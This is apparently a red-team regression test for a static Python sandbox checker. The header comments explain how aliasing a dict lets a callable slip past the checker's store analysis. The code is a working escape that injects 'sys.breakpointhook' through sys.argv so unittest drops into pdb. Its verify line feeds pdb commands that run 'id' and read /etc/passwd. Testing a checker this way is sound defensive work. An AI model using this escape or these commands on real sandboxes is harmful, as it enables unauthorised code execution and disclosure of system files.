@@ -1,0 +1,42 @@
+# expect: reject store
+# line: 31
+# why: the red team's round 26h ok_02 (its header below): a name bound once to a new value holds only what its binding gave it while every other occurrence only reads the object; any use that may make another name for it (an alias, a parameter, a display, an attribute, a return, a call but a reading builtin's) may fill it unseen
+# goal: FULL ESCAPE: runs id and reads /etc/passwd via pdb on stdin (sys.argv lever + sys.breakpointhook).
+# mechanism: as ok_01, appending "sys.breakpointhook"; unittest.main(exit=False) resolves it from __main__.sys and calls it -> pdb.
+# rule slipped: store: higher_order_arg asks maybe_function(operator.getitem(h, 0)): a library callee -> its
+#   args: h -> wk_sole_assignment `h = {}`, name_filled(h) false (the item store is written on g) -> empty
+#   dict display -> "no function"; run is named only as a subscript-store value (no library call), so its
+#   parameter x never takes the library's values and x.append passes.
+# family Q: "a name is filled only through itself": maybe_function (stores.c) judges an identifier by its
+#   sole assignment (`h = {}` -> an empty display -> "no function") unless name_filled(h) finds an item/slice
+#   store or a mutating call written ON THAT NAME. A second name for the same object (`g = h`) is not asked:
+#   `g[0] = run` fills h behind its back. The store pass itself has alias tracking (EV_ALIAS, "plain aliases"),
+#   but maybe_function/name_filled is purely syntactic per name. A subscript store is no call, so run is never
+#   "handed to library code" either (contrast `g.append(run)`, which taints run's params as a library-call arg).
+#   operator.getitem(h, 0) is a module callee: "what it returns may be what it was handed" -> asks h -> "no function".
+# principle: "what a name holds" must come from the same alias-closed facts the store pass already computes:
+#   name_filled(h) must be true when ANY name/attribute/item that may alias h (the EV_ALIAS partners of h, and h
+#   reached as an element of a display, a program def's parameter it is passed to, or a def's return) is a store target or mutating receiver; or,
+#   simpler and default-deny, a name bound to a MUTABLE display ({} [] set()) or a library container constructor
+#   that is ever read as a value other than as a receiver of a non-mutating method is "maybe function".
+# verify: printf '!import os; os.system("id")\n!print(open("/etc/passwd").read()[:80])\nc\n' | python3 THIS -> uid=0(root)... root:x:0:0:...
+import contextlib
+import logging
+import operator
+import sys
+import unittest
+
+
+def run(x, *a):
+    x.append("sys.breakpointhook")
+    return 0
+
+
+h = {}
+g = h
+g[0] = run
+es = contextlib.ExitStack()
+es.callback(operator.getitem(h, 0), sys.argv)
+es.close()
+print(sys.argv)
+unittest.main(exit=False)
